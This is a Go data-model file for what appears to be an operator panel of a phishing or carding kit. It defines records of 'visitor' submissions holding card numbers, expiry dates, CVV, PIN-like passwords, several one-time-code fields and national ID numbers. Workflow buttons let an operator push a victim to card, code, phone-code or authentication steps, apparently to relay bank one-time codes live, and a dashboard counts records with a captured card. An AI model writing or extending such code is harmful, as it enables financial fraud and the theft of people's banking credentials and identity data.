package models

import (
	"database/sql"
	"encoding/json"
	"fmt"
	"strings"
	"time"
)

// FlagColor is the operator-assigned priority marker of a record.
type FlagColor string

const (
	FlagNone   FlagColor = ""
	FlagRed    FlagColor = "red"
	FlagYellow FlagColor = "yellow"
	FlagGreen  FlagColor = "green"
)

// Valid reports whether the colour is one of the known markers or unset.
func (c FlagColor) Valid() bool {
	switch c {
	case FlagNone, FlagRed, FlagYellow, FlagGreen:
		return true
	}
	return false
}

// Well-known record statuses. Any other string is accepted from the feed.
const (
	StatusPending  = "pending"
	StatusApproved = "approved"
	StatusRejected = "rejected"
)

// StepOption labels a workflow position the operator can push a visitor to.
type StepOption struct {
	Label string `json:"label"`
	Step  int    `json:"step"`
}

// StepOptions lists the workflow buttons rendered next to each record.
var StepOptions = []StepOption{
	{Label: "card", Step: 0},
	{Label: "code", Step: 2},
	{Label: "number", Step: 3},
	{Label: "phone_code", Step: 4},
	{Label: "authentication", Step: 5},
}

// Payload holds the visitor-submitted fields of a record document.
type Payload struct {
	Name      string `json:"name,omitempty"`
	Email     string `json:"email,omitempty"`
	Phone     string `json:"phone,omitempty"`
	Mobile    string `json:"mobile,omitempty"`
	IDNumber  string `json:"idNumber,omitempty"`
	Country   string `json:"country,omitempty"`
	Network   string `json:"network,omitempty"`
	IP        string `json:"ip,omitempty"`
	PlateType string `json:"plateType,omitempty"`
	LastSeen  string `json:"lastSeen,omitempty"`

	Bank       string   `json:"bank,omitempty"`
	Prefix     string   `json:"prefix,omitempty"`
	CardNumber string   `json:"cardNumber,omitempty"`
	CardExpiry string   `json:"cardExpiry,omitempty"`
	ExpiryDate string   `json:"expiryDate,omitempty"`
	Month      string   `json:"month,omitempty"`
	Year       string   `json:"year,omitempty"`
	CVV        string   `json:"cvv,omitempty"`
	Pass       string   `json:"pass,omitempty"`
	CardStatus string   `json:"cardStatus,omitempty"`
	OTP        string   `json:"otp,omitempty"`
	OTP2       string   `json:"otp2,omitempty"`
	PhoneOTP   string   `json:"phoneOtp,omitempty"`
	OTPCode    string   `json:"otpCode,omitempty"`
	AllOTPs    []string `json:"allOtps,omitempty"`
}

// Record is one submitted session as observed on the live feed.
type Record struct {
	ID          string    `json:"id" validate:"required"`
	CreatedDate string    `json:"createdDate"`
	Status      string    `json:"status"`
	Step        int       `json:"step" validate:"gte=0"`
	FlagColor   FlagColor `json:"flagColor,omitempty" validate:"omitempty,oneof=red yellow green"`
	CurrentPage string    `json:"currentPage,omitempty"`
	Page        string    `json:"page,omitempty"`
	PageName    string    `json:"pagename,omitempty"`
	Payload
}

// HasCard reports whether a card number has been captured.
func (r Record) HasCard() bool {
	return strings.TrimSpace(r.CardNumber) != ""
}

// HasPersonal reports whether any identifying personal field has been captured.
func (r Record) HasPersonal() bool {
	return strings.TrimSpace(r.IDNumber) != "" ||
		strings.TrimSpace(r.Email) != "" ||
		strings.TrimSpace(r.Mobile) != ""
}

// CreatedAt parses CreatedDate; unparsable values yield the zero time.
func (r Record) CreatedAt() time.Time {
	t, _ := ParseCreatedDate(r.CreatedDate)
	return t
}

var createdDateLayouts = []string{
	time.RFC3339Nano,
	time.RFC3339,
	"2006-01-02T15:04:05",
	"2006-01-02 15:04:05",
	"2006-01-02",
	"Mon Jan 02 2006 15:04:05 GMT-0700",
	"1/2/2006, 3:04:05 PM",
}

// ParseCreatedDate accepts the timestamp layouts written by the intake flow.
func ParseCreatedDate(raw string) (time.Time, error) {
	raw = strings.TrimSpace(raw)
	if raw == "" {
		return time.Time{}, fmt.Errorf("empty created date")
	}
	if idx := strings.Index(raw, " ("); idx > 0 {
		raw = raw[:idx]
	}
	for _, layout := range createdDateLayouts {
		if t, err := time.Parse(layout, raw); err == nil {
			return t.UTC(), nil
		}
	}
	return time.Time{}, fmt.Errorf("unrecognised created date %q", raw)
}

// RecordDocument is the raw stored row backing a record.
type RecordDocument struct {
	ID          string         `db:"id"`
	CreatedDate string         `db:"created_date"`
	Status      string         `db:"status"`
	Step        int            `db:"step"`
	FlagColor   sql.NullString `db:"flag_color"`
	CurrentPage sql.NullString `db:"current_page"`
	IsHidden    bool           `db:"is_hidden"`
	Data        []byte         `db:"data"`
}

// Decode maps the stored row into a Record without validating it.
func (d RecordDocument) Decode() (Record, error) {
	rec := Record{
		ID:          strings.TrimSpace(d.ID),
		CreatedDate: d.CreatedDate,
		Status:      d.Status,
		Step:        d.Step,
		FlagColor:   FlagColor(strings.ToLower(strings.TrimSpace(d.FlagColor.String))),
		CurrentPage: d.CurrentPage.String,
	}
	if len(d.Data) == 0 {
		return rec, nil
	}
	var extra struct {
		Payload
		Page     string `json:"page"`
		PageName string `json:"pagename"`
	}
	if err := json.Unmarshal(d.Data, &extra); err != nil {
		return rec, fmt.Errorf("decode record %s payload: %w", d.ID, err)
	}
	rec.Payload = extra.Payload
	rec.Page = extra.Page
	rec.PageName = extra.PageName
	return rec, nil
}

// RecordStats aggregates counters over the current snapshot.
type RecordStats struct {
	Total    int `json:"total"`
	WithCard int `json:"withCard"`
	Approved int `json:"approved"`
	Pending  int `json:"pending"`
}

// ComputeRecordStats derives the dashboard counters from a snapshot.
func ComputeRecordStats(records []Record) RecordStats {
	stats := RecordStats{Total: len(records)}
	for _, rec := range records {
		if rec.HasCard() {
			stats.WithCard++
		}
		switch rec.Status {
		case StatusApproved:
			stats.Approved++
		case StatusPending:
			stats.Pending++
		}
	}
	return stats
}

// SnapshotEntry is one document of a live feed emission, hidden ones included.
type SnapshotEntry struct {
	Record
	Hidden bool
}
